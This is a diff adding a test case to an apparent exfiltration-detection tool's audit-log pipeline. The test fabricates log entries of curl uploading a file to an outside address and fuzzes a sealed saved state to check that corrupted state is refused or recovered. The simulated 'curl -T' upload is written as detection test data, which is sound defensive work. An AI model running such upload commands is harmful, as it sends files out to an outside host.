@@ -2,10 +2,12 @@
 
 #include <atomic>
 #include <filesystem>
+#include <random>
 
 #include "../facts/host_with_cron.hpp"
 #include "../input/files.hpp"
 #include "auexfil/facts/mask.hpp"
+#include "auexfil/input/state_io.hpp"
 
 /// A front end of its own: no command line, no terminal.
 namespace auexfil::test {
@@ -111,6 +113,63 @@ TEST_CASE("pipeline: facts come masked where a redactor is given, and as they ar
       CHECK((facts::masked(fact) == fact) == masked);
     }
   }
+}
+
+TEST_CASE("pipeline: a state that somebody wrote and sealed is read again, refused, or taken up") {
+  CronHost log;
+  for (int i = 0; i < 40; ++i) {
+    const int curl = log.tool("/usr/bin/curl", {"curl", "-T", "f", "http://203.0.113.7/"});
+    log.tcp(curl, 5, "203.0.113.7", 80);
+    log.send(curl, 5, 1000 * (i + 1));
+    log.done(curl, 5);
+    log.exit(curl - 1);
+  }
+  const std::string text = log.text();
+  const auto part = [&](std::size_t of) {
+    return text.substr(0, text.find('\n', text.size() * of / 4) + 1);
+  };
+  input::test::TempFolder folder;
+  Heard heard;
+  const auto run = [&](const std::string& file, std::vector<pipeline::SavedLog>& saved) {
+    folder.write("audit.log", file);
+    const std::string path = (std::filesystem::path(folder.path()) / "audit.log").string();
+    pipeline::Options options;
+    options.threads = 1;
+    options.max_open_events = 16;  // else all of it waits there
+    options.saved = &saved;
+    options.keep_ms = std::int64_t{1} << 36;  // two years
+    Collected collected;
+    static_cast<void>(pipeline::run_hosts(pipeline::find_inputs("", {path}), options,
+                                          {rules().tools, rules().signs}, collected, heard));
+    return collected.facts;
+  };
+  std::vector<pipeline::SavedLog> before;
+  for (const std::size_t of : {2U, 3U}) {  // what is over when a run begins is packed by it
+    static_cast<void>(run(part(of), before));
+    REQUIRE(before.size() == 1);
+    before.front().is_found = false;
+  }
+  std::vector<pipeline::SavedLog> whole = before;
+  const std::size_t all = run(text, whole).size();
+  REQUIRE(all == 40);
+  const std::string state(input::open_state(before.front().tables));
+  std::mt19937 random(5);
+  std::size_t again = 0;
+  for (int i = 0; i < 400; ++i) {
+    std::string changed = state;
+    // 127 more for a number that has but one byte: past what there is of most.
+    changed[random() % changed.size()] = static_cast<char>(i % 2 == 0 ? random() : 0x7f);
+    std::vector<pipeline::SavedLog> saved = before;
+    saved.front().tables = input::seal_state(changed);
+    heard.messages.clear();
+    try {
+      static_cast<void>(run(text, saved));
+      again += heard.messages.empty() ? 0U : 1U;
+    } catch (const input::StateRefused&) {
+      // Its transfers contradict themselves, which is seen where facts are made of them.
+    }
+  }
+  CHECK(again > 20);
 }
 
 TEST_CASE("pipeline: bare events, of all sets") {
